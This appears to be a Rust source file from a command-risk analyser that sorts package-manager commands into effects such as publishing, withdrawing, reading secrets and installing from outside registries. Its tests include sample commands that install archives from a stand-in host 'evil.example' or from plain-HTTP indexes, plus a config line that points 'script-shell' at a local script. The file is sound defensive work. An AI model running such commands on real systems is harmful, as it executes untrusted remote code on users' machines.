//! Registries that others install from: what is published, withdrawn or changed, and from where packages come.

use countersign_model::{Certainty, Effect, Resource, Verb, verbs};

use super::members;
use crate::context::Context;
use crate::invocation::Invocation;
use crate::paths;
use crate::word::{Value, Word};

/// Names of a registry by the program, where nothing else is said.
const STANDARD: &[(&str, &str)] = &[
    ("bun", "npm"), ("bunx", "npm"), ("npx", "npm"), ("pipx", "pypi"), ("uvx", "pypi"), ("cargo", "crates.io"), ("gem", "rubygems"), ("bundle", "rubygems"), ("bundler", "rubygems"), ("go", "go"), ("gradle", "maven"), ("gradlew", "maven"), ("mvn", "maven"), ("mvnw", "maven"),
    ("dotnet", "nuget"), ("nuget", "nuget"), ("npm", "npm"), ("pnpm", "npm"), ("pip", "pypi"), ("pip3", "pypi"), ("poetry", "pypi"), ("twine", "pypi"), ("uv", "pypi"),
    ("hatch", "pypi"), ("flit", "pypi"), ("pdm", "pypi"), ("rye", "pypi"), ("yarn", "npm"), ("mix", "hex"), ("dart", "pub"), ("lerna", "npm"), ("semantic-release", "npm"),
];

/// What a subcommand does to a registry.
fn verb(program: &str, words: &[&str]) -> Option<Verb> {
    Some(match words {
        ["npm", rest @ ..] if program == "yarn" => return verb("npm", rest),
        ["whoami" | "ping" | "audit" | "docs" | "profile" | "search", rest @ ..] if rest.first() != Some(&"set") => verbs::PACKAGE_READ,
        ["dist-tag" | "owner" | "access" | "team" | "token" | "org" | "tag", "ls" | "list" | "get", ..] | ["dist-tag", ..] if words.len() < 2 || words.get(1).is_some_and(|word| matches!(*word, "ls" | "list" | "get")) => verbs::PACKAGE_READ,
        ["owner", ..] if program == "cargo" && words.iter().any(|word| matches!(*word, "--list" | "-l")) => verbs::PACKAGE_READ,
        ["unpublish" | "yank", ..] if words.contains(&"--undo") => verbs::PACKAGE_SETTINGS,
        ["unpublish" | "yank", ..] | ["nuget", "delete", ..] | ["hex.retire", ..] => verbs::PACKAGE_WITHDRAW,
        ["deprecate" | "dist-tag" | "owner" | "access" | "team" | "org" | "profile" | "tag" | "star" | "unstar" | "hook" | "trust", ..] => verbs::PACKAGE_SETTINGS,
        ["token", ..] => verbs::PACKAGE_SETTINGS,
        ["login" | "adduser" | "add-user" | "signin" | "signout" | "logout", ..] | ["auth", "login" | "logout", ..] => verbs::SECRET_WRITE,
        ["nuget", "push", ..] | ["publish" | "upload" | "push" | "deploy" | "register" | "release" | "hex.publish", ..] => verbs::PACKAGE_PUBLISH,
        ["nuget", ..] => verbs::PACKAGE_SETTINGS,
        _ => return None,
    })
}

/// Adds what a subcommand that talks to a registry does; its first word is at `index`.
pub(super) fn effects(index: usize, invocation: &Invocation, context: &mut Context<'_>) {
    let program = invocation.program.as_str();
    let words = plain_words(index, invocation);
    if matches!(words.first(), Some(&("config" | "c" | "set" | "get"))) {
        configures(&words, invocation, context);
        return;
    }
    let verb = verb(program, &words);
    let registry = registry(invocation, context);
    if verb == Some(verbs::SECRET_WRITE) {
        let store = registry.unwrap_or_else(|| "*".to_owned());
        context.push(Effect::new(verbs::SECRET_WRITE, Resource::Secret { store, name: "login".to_owned() }));
        return;
    }
    let names = Some(()).filter(|()| verb == Some(verbs::PACKAGE_PUBLISH)).and_then(|()| published(&words, invocation, context));
    let names = names.unwrap_or_else(|| name(program, &words, invocation, context).into_iter().collect());
    let names = if names.is_empty() { vec!["*".to_owned()] } else { names };
    let doubt = invocation.words.iter().find(|word| word.value.is_unknown()).map(|word| word.raw.clone());
    for name in names {
        let resource = Resource::Package { registry: registry.clone().unwrap_or_else(|| "*".to_owned()), name };
        let effect = Effect::new(verb.clone().unwrap_or(verbs::PACKAGE_PUBLISH), resource);
        context.push(match (&verb, &registry, &doubt) {
            (None, ..) => effect.certain(Certainty::Partial, "the subcommand is not known"),
            (Some(_), None, _) => effect.certain(Certainty::Partial, "which registry is meant is not known"),
            (Some(_), _, Some(_)) => effect.certain(Certainty::Partial, "a part of the command is not known"),
            (Some(_), Some(_), None) => effect,
        });
    }
}

/// The packages that are published, where it is others than the project's own: those of a workspace, or the one in a
/// directory or an archive that is named.
fn published(words: &[&str], invocation: &Invocation, context: &Context<'_>) -> Option<Vec<String>> {
    if !matches!(invocation.program.as_str(), "npm" | "pnpm" | "yarn" | "bun") {
        return None;
    }
    if let Some(names) = members::names(invocation, context) {
        return Some(names);
    }
    let named = words.iter().skip_while(|word| **word != "publish").nth(1)?;
    let file = paths::locate(&Value::Known(format!("{named}/package.json")), context).path;
    let package: Option<serde_json::Value> = context.file(&file).ok().flatten().and_then(|text| serde_json::from_str(&text).ok());
    let own = package.as_ref().and_then(|package| package.get("name")?.as_str());
    Some(vec![own.unwrap_or("*").to_owned()])
}

/// The words that are neither options nor their values; some options say what is meant.
fn plain_words(index: usize, invocation: &Invocation) -> Vec<&str> {
    const VALUES: &[&str] =
        &["--version", "--vers", "--add", "-a", "--remove", "--token", "--otp", "--tag", "--access", "-k", "--api-key", "--dir", "-u", "-p", "--workspace", "-w", "--key", "--filter", "-F", "-C", "--prefix", "--cwd", "--loglevel", "--publish-branch"];
    let mut plain = Vec::new();
    let mut words = invocation.words.iter().skip(index).map(Word::text);
    while let Some(text) = words.next() {
        if VALUES.contains(&text) || registries(&invocation.program).contains(&text) {
            words.next();
        } else if !text.starts_with('-') || matches!(text, "--list" | "-l" | "--undo") {
            plain.push(text);
        }
    }
    plain
}

/// Options that name the registry.
const REGISTRIES: &[&str] = &["--registry", "--repository", "--repository-url", "--index", "--publish-url", "-r", "--source", "-s", "--host", "--url"];

/// Those that a program has: with the managers of JavaScript's packages, the short ones are others.
fn registries(program: &str) -> &'static [&'static str] {
    match program {
        "npm" | "npx" | "pnpm" | "yarn" | "bun" | "bunx" => &["--registry", "--publish-url"],
        // There `-r` names a file of requirements.
        "pip" | "pip3" | "uv" | "pipenv" => &["--registry", "--repository", "--repository-url", "--index", "--publish-url", "--source", "--host", "--url"],
        _ => REGISTRIES,
    }
}

/// The value of one of these options, in either spelling.
fn option<'w>(invocation: &'w Invocation, names: &[&str]) -> Option<Option<&'w str>> {
    invocation.words.iter().enumerate().rev().find_map(|(index, word)| {
        let text = word.text();
        if names.contains(&text) {
            return Some(invocation.known(index + 1));
        }
        let (name, value) = text.split_once('=')?;
        names.contains(&name).then(|| word.known().map(|_| value))
    })
}

/// The registry: as an option says, a variable, a file, or the usual one; none where it is not known.
pub(super) fn registry(invocation: &Invocation, context: &Context<'_>) -> Option<String> {
    let program = invocation.program.as_str();
    if let Some(given) = option(invocation, registries(program)) {
        return given.map(host);
    }
    let is_npm = matches!(program, "npm" | "npx" | "pnpm" | "yarn" | "bun" | "bunx");
    let variables: &[&str] = if is_npm {
        &["npm_config_registry", "NPM_CONFIG_REGISTRY"]
    } else if program == "cargo" {
        &["CARGO_REGISTRY_DEFAULT"]
    } else if program == "twine" {
        &["TWINE_REPOSITORY_URL", "TWINE_REPOSITORY"]
    } else {
        &[]
    };
    for name in variables {
        if let Some(value) = crate::environment::value(invocation, name) {
            return value.known().map(host);
        }
    }
    let standard = STANDARD.iter().find(|(name, _)| *name == program).map_or("*", |(_, registry)| registry);
    if matches!(standard, "maven" | "*") {
        return None;
    }
    if is_npm {
        let home = format!("{}/.npmrc", context.surroundings.home);
        let own = paths::locate(&Value::Known(".npmrc".to_owned()), context).path;
        for path in [own, home] {
            let text = context.file(&path).ok().flatten();
            let line = text.as_ref().and_then(|text| text.lines().find_map(|line| line.trim().strip_prefix("registry=")));
            if let Some(address) = line {
                return Some(host(address));
            }
        }
    }
    Some(standard.to_owned())
}

/// The host of an address, or the name that a registry has in a configuration.
pub(super) fn host(address: &str) -> String {
    let address = address.trim().trim_matches(['"', '\'']);
    let found = crate::families::addresses::host_and_path(address).filter(|_| address.contains("://"));
    match found.map(|(host, _)| host).as_deref() {
        Some("registry.npmjs.org") => "npm".to_owned(),
        Some("upload.pypi.org" | "pypi.org") => "pypi".to_owned(),
        Some("test.pypi.org") => "testpypi".to_owned(),
        Some(host) => host.to_owned(),
        None => address.to_owned(),
    }
}

/// The package's name: an operand, or the one in the project's own file.
fn name(program: &str, words: &[&str], invocation: &Invocation, context: &Context<'_>) -> Option<String> {
    let first = words.first().copied().unwrap_or_default();
    let operand = |at: usize| words.get(at).map(|word| (*word).to_owned());
    let named = match (program, first) {
        ("npm" | "pnpm" | "yarn", "unpublish" | "deprecate" | "star" | "unstar") => operand(1),
        ("npm" | "pnpm" | "yarn", "dist-tag" | "owner" | "access") => words.iter().skip(2).find(|word| word.contains(['@', '/']) || words.len() == 3).or_else(|| words.last()).map(|word| (*word).to_owned()),
        ("cargo", "yank" | "owner") => words.iter().skip(1).find(|word| !word.starts_with('-')).map(|word| (*word).to_owned()),
        ("cargo", _) => option(invocation, &["-p", "--package"]).flatten().map(str::to_owned),
        ("npm" | "pnpm" | "yarn", of_account @ ("token" | "whoami" | "ping" | "profile" | "team" | "org" | "hook" | "search")) => Some(of_account.to_owned()),
        ("gem" | "dotnet", _) => words.iter().skip(1).rfind(|word| !matches!(**word, "push" | "delete")).map(|word| (*word).to_owned()),
        _ => None,
    };
    let named = named.map(|name| match name.rsplit_once('@') {
        Some((start, _)) if !start.is_empty() => start.to_owned(),
        _ => name,
    });
    named.or_else(|| of_project(program, context))
}

/// The name that the project's file says.
fn of_project(program: &str, context: &Context<'_>) -> Option<String> {
    let file = match program {
        "npm" | "pnpm" | "yarn" | "bun" | "lerna" => "package.json",
        "cargo" => "Cargo.toml",
        "poetry" | "uv" | "hatch" | "flit" | "pdm" | "rye" | "twine" => "pyproject.toml",
        _ => return None,
    };
    let path = paths::locate(&Value::Known(file.to_owned()), context).path;
    let text = context.file(&path).ok().flatten()?;
    if file == "package.json" {
        let json: serde_json::Value = serde_json::from_str(&text).ok()?;
        return json.get("name")?.as_str().map(str::to_owned);
    }
    let line = text.lines().find_map(|line| line.trim().strip_prefix("name").map(str::trim_start)?.strip_prefix('='))?;
    Some(line.trim().trim_matches(['"', '\'']).to_owned())
}

/// Settings of the program, in a file: where packages come from is among them.
fn configures(words: &[&str], invocation: &Invocation, context: &mut Context<'_>) {
    let (action, rest) = match words {
        ["config" | "c", action, rest @ ..] => (*action, rest),
        ["set" | "get", rest @ ..] => (*words.first().unwrap_or(&"get"), rest),
        _ => ("list", &[][..]),
    };
    if matches!(action, "list" | "ls" | "get" | "debug" | "--version" | "help") {
        let token = rest.iter().any(|word| word.to_ascii_lowercase().contains("token") || word.to_ascii_lowercase().contains("password"));
        if token {
            let resource = Resource::Secret { store: invocation.program.clone(), name: "token".to_owned() };
            context.push(Effect::new(verbs::SECRET_READ, resource));
        } else {
            context.program(verbs::EXEC_READ, &invocation.title());
        }
        return;
    }
    let setting = rest.first().copied().unwrap_or("*");
    let file = match invocation.program.as_str() {
        "pip" | "pip3" => format!("{}/.config/pip/pip.conf", context.surroundings.home),
        _ => format!("{}/.npmrc", context.surroundings.home),
    };
    let located = paths::locate(&Value::Known(file), context);
    let decides = ["registry", "index", "script-shell", "token", "host", "auth", "*", "proxy", "ca", "strict-ssl", "global", "prefix", "node-options", "git", "editor", "scripts"];
    let lower = rest.join(" ").to_ascii_lowercase();
    let is_usual = match rest {
        ["registry", address] => is_npms(address),
        [one] => one.strip_prefix("registry=").is_some_and(is_npms),
        _ => false,
    };
    let class = if !is_usual && decides.iter().any(|part| lower.contains(part)) { countersign_model::PathClass::ToolConfiguration } else { countersign_model::PathClass::Ordinary };
    let resource = Resource::Path { path: located.path, zone: located.zone, class };
    let why = format!("it sets `{setting}` for every later use");
    context.push(Effect::new(verbs::FS_WRITE, resource).because(&why));
}

/// Whether an address is that of npm's own registry.
fn is_npms(address: &str) -> bool {
    matches!(address.trim_end_matches('/'), "https://registry.npmjs.org" | "https://registry.yarnpkg.com")
}

/// Adds that packages are installed from somewhere else than the usual registry.
pub(super) fn other_sources(invocation: &Invocation, context: &mut Context<'_>) {
    const INDEXES: &[&str] = &["--index-url", "-i", "--extra-index-url", "--registry", "--find-links", "-f", "--index", "--default-index", "--source"];
    let is_pip = matches!(invocation.program.as_str(), "pip" | "pip3" | "uv" | "pipx" | "poetry" | "pdm");
    let names: Vec<&str> = INDEXES.iter().copied().filter(|name| name.starts_with("--") || is_pip).collect();
    let name = || Resource::Program { name: invocation.title() };
    if let Some(given) = option(invocation, &names) {
        let address = given.unwrap_or("*");
        let host = host(address);
        let plain = address.starts_with("http://") && !countersign_model::is_this_machine(&host);
        let usual = matches!(host.as_str(), "npm" | "pypi") && !plain;
        if plain {
            context.push(Effect::new(verbs::EXEC_REMOTE_CODE, name()).because(&format!("it installs from {host} without knowing who answers")));
        } else if !usual {
            let why = format!("it installs from {host}, which may have other packages under the same names");
            context.push(Effect::new(verbs::EXEC_INSTALL, name()).certain(Certainty::Partial, &why));
        }
    }
    let is_value = |index: usize, more: &[&str]| index.checked_sub(1).and_then(|before| invocation.words.get(before)).is_some_and(|before| names.contains(&before.text()) || more.contains(&before.text()));
    let words = || invocation.words.iter().enumerate();
    let mut operands = words().skip(1).filter(|(index, _)| !is_value(*index, DIRECTORIES)).map(|(_, word)| word.text());
    let short = operands.find(|text| is_repository(text, invocation));
    if let Some(short) = short {
        let why = format!("it installs from the repository {short} rather than from the registry");
        context.push(Effect::new(verbs::EXEC_INSTALL, name()).certain(Certainty::Partial, &why));
    }
    let address = words().filter(|(index, _)| !is_value(*index, &[])).map(|(_, word)| word).find(|word| word.text().contains("://") && !word.text().starts_with('-'));
    if let Some(address) = address {
        let foreign = address.text().contains("http://") || is_foreign_archive(address.text());
        let why = "it installs from an address rather than from the registry";
        context.push(if foreign {
            Effect::new(verbs::EXEC_REMOTE_CODE, name()).because(why)
        } else {
            Effect::new(verbs::EXEC_INSTALL, name()).certain(Certainty::Partial, why)
        });
    }
}

/// Options whose value is a place of this machine or a part of the project.
const DIRECTORIES: &[&str] = &["--prefix", "-C", "--dir", "--cwd", "-w", "--workspace", "--filter", "-F", "--cache", "--userconfig", "--tag", "--modules-folder"];

/// `acme/shop`, `github:acme/shop`, `git@github.com:acme/shop.git`: a repository to a package manager of node's.
pub(super) fn is_repository(text: &str, invocation: &Invocation) -> bool {
    if text.contains("://") || text.starts_with('-') || !matches!(invocation.program.as_str(), "npm" | "pnpm" | "yarn" | "bun") {
        return false;
    }
    let kinds = ["github:", "gitlab:", "bitbucket:", "gist:", "git@"];
    // An alias's version comes after its name.
    let after = text.rsplit_once('@').map_or(text, |(name, version)| if name.is_empty() { text } else { version });
    let is_short = !text.starts_with(['@', '.', '/', '~']) && text.split('/').count() == 2 && !text.contains(':') && !text.ends_with(".tgz");
    is_short || kinds.iter().any(|kind| text.starts_with(kind) || after.starts_with(kind))
}

/// Whether a package is named by an address from which nobody has seen what comes.
pub(super) fn is_foreign(text: &str) -> bool {
    let plain = text.strip_prefix("http://").is_some_and(|rest| !countersign_model::is_this_machine(rest.split(['/', ':']).next().unwrap_or(rest)));
    plain || is_foreign_archive(text)
}

/// An archive that is installed from a place which is no forge and no registry: nobody has seen what its scripts do.
fn is_foreign_archive(address: &str) -> bool {
    const KNOWN: &[&str] = &[
        "github.com", "codeload.github.com", "gitlab.com", "bitbucket.org", "codeberg.org", "registry.npmjs.org", "registry.yarnpkg.com", "pypi.org", "files.pythonhosted.org", "download.pytorch.org",
        "storage.googleapis.com", "rubygems.org", "crates.io", "static.crates.io", "cdn.sheetjs.com", "pkg.pr.new",
    ];
    let Some((start, rest)) = address.rsplit_once("://") else { return false };
    let place = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let place = place.rsplit('@').next().unwrap_or(place).split(':').next().unwrap_or(place);
    let is_web = start.ends_with("https") && !start.ends_with("git+https") && !rest.ends_with(".git");
    is_web && !KNOWN.contains(&place) && !countersign_model::is_this_machine(place)
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;

    use countersign_model::Resource;

    use crate::fixture::{check, check_with, understood};

    const PROJECT: &[(&str, &str)] = &[
        ("/repo/package.json", "{\"name\": \"@acme/shop\"}"),
        ("/repo/Cargo.toml", "[package]\nname = \"shop\"\n"),
        ("/repo/.npmrc", "registry=https://npm.acme.example/\n"),
    ];

    #[test]
    fn packages_of_a_workspace() {
        let files = &[
            ("/repo/package.json", r#"{"name": "@acme/web", "workspaces": ["packages/*"]}"#),
            ("/repo/packages/ui/package.json", r#"{"name": "@acme/ui"}"#),
            ("/repo/packages/api/package.json", r#"{"name": "@acme/api"}"#),
        ];
        for (command, names) in [
            ("npm publish", "@acme/web"), ("npm publish .", "@acme/web"), ("npm publish -w packages/ui", "@acme/ui"), ("npm publish --workspace=@acme/ui", "@acme/ui"), ("npm publish packages/ui", "@acme/ui"), ("npm publish ./x.tgz", "*"),
            ("pnpm --filter @acme/api publish", "@acme/api"), ("pnpm -r publish", "@acme/api @acme/ui"), ("npm publish --workspaces", "@acme/api @acme/ui"), ("npm publish -w other", "*"), ("npm publish -w \"$X\"", "*"),
        ] {
            let found = check_with(command, files);
            let published = found.lines().filter_map(|line| line.strip_prefix("package.publish ")?.split(' ').next());
            assert_eq!(published.collect::<Vec<_>>().join(" "), names, "{command}: {found}");
        }
    }

    #[test]
    fn publishing() {
        assert_snapshot!(check_with("npm publish; cargo publish -p core; cargo publish", PROJECT), @"
        package.publish @acme/shop on npm.acme.example, write
        package.publish core on crates.io, write
        package.publish shop on crates.io, write
        ");
        assert_snapshot!(check("npm publish --registry https://npm.acme.example; twine upload -r testpypi dist/*; poetry publish"), @"
        package.publish * on npm.acme.example, write
        package.publish * on testpypi, write
        package.publish * on pypi, write
        ");
        assert_snapshot!(check("npm unpublish left-pad --force; cargo yank --version 1.0.0 shop; gem yank shop"), @"
        package.withdraw left-pad on npm, destroy
        package.withdraw shop on crates.io, destroy
        package.withdraw shop on rubygems, destroy
        ");
        assert_snapshot!(check("npm deprecate a@1 no; npm owner add x shop; npm dist-tag add a@1 latest; cargo owner --add x shop"), @"
        package.settings a on npm, write
        package.settings shop on npm, write
        package.settings shop on crates.io, write
        ");
        assert_snapshot!(check("mvn deploy; gem push a-1.gem; dotnet nuget push a.nupkg --source x; npm login"), @"
        package.publish * on *, write, partial
        package.publish a-1.gem on rubygems, write
        package.publish a.nupkg on x, write
        secret.write npm:login, write
        ");
    }

    #[test]
    fn reading_and_setting() {
        assert_snapshot!(check("npm whoami; npm config get registry; npm dist-tag ls a; cargo owner --list shop; npm view a"), @"
        package.read whoami on npm, read
        exec.read npm config get, read
        package.read a on npm, read
        package.read shop on crates.io, read
        exec.read npm view, read
        ");
        assert_snapshot!(check("npm config set registry http://x.example; npm config set fund false; pip config set global.index-url http://x.example"), @"
        fs.write /home/dev/.npmrc, write
        fs.write /home/dev/.npmrc, write
        fs.write /home/dev/.config/pip/pip.conf, write
        ");
    }

    #[test]
    fn the_usual_registry_decides_nothing() {
        let decides = |command: &str| {
            let found = understood(command, &[]).effects;
            found.iter().any(|effect| matches!(&effect.resource, Resource::Path { class: countersign_model::PathClass::ToolConfiguration, .. }))
        };
        for command in ["npm config set registry https://registry.npmjs.org", "npm config set registry=https://registry.npmjs.org/"] {
            assert!(!decides(command), "{command}");
        }
        for command in ["npm config set registry http://registry.npmjs.org", "npm config set registry https://registry.npmjs.org.example", "npm config set fund=false script-shell=./x.sh", "npm config set registry=https://registry.npmjs.org script-shell=./x.sh"] {
            assert!(decides(command), "{command}");
        }
    }

    #[test]
    fn other_indexes() {
        assert_snapshot!(check("pip install --index-url http://x.example/simple a"), @"
        exec.install pip install, execute
        exec.remote-code pip install --index-url, execute
        package.read * on x.example, read
        ");
        assert_snapshot!(check("pip install --extra-index-url=https://x.example/simple a; npm install --registry https://x.example a"), @"
        exec.install pip install, execute
        exec.install pip install --extra-index-url=https://x.example/simp, execute, partial
        package.read * on pypi, read
        package.read * on x.example, read
        exec.install npm install, execute
        exec.install npm install --registry, execute, partial
        ");
        assert_snapshot!(check("npm install https://evil.example/x.tgz; pip install https://evil.example/x.whl; npm i x@https://evil.example/x.tgz"), @"
        exec.install npm install, execute
        exec.remote-code npm install https://evil.example/x.tgz, execute
        package.read * on npm, read
        package.read * on evil.example, read
        exec.install pip install, execute
        exec.remote-code pip install https://evil.example/x.whl, execute
        package.read * on pypi, read
        exec.install npm i, execute
        exec.remote-code npm i x@https://evil.example/x.tgz, execute
        ");
        assert_snapshot!(check("npm install https://github.com/a/b/archive/1.tar.gz; npm i git+https://git.acme.example/a.git"), @"
        exec.install npm install, execute
        exec.install npm install https://github.com/a/b/archive/1.tar.gz, execute, partial
        package.read * on npm, read
        package.read * on github.com, read
        exec.install npm i, execute
        exec.install npm i git+https://git.acme.example/a.git, execute, partial
        package.read * on git.acme.example, read
        ");
        assert_snapshot!(check("npm i acme/shop; npm i x@github:acme/shop; npm i git@github.com:a/b.git"), @"
        exec.install npm i, execute
        exec.install npm i acme/shop, execute, partial
        package.read * on npm, read
        package.read * on github.com, read
        exec.install npm i x@github:acme/shop, execute, partial
        exec.install npm i git@github.com:a/b.git, execute, partial
        ");
        assert_snapshot!(check("npm i @acme/shop ./local/a left-pad@1.0.0 @acme/x@2; npm ci --prefix web/app"), @"
        exec.install npm i, execute
        package.read * on npm, read
        exec.install npm ci, execute
        package.read * on github.com, read
        fs.write /repo/web/app, write
        ");
        assert_snapshot!(check("pip install git+https://github.com/a/b; pip install requests; npm i"), @"
        exec.install pip install, execute
        exec.install pip install git+https://github.com/a/b, execute, partial
        package.read * on pypi, read
        package.read * on github.com, read
        exec.install npm i, execute
        package.read * on npm, read
        ");
    }
}
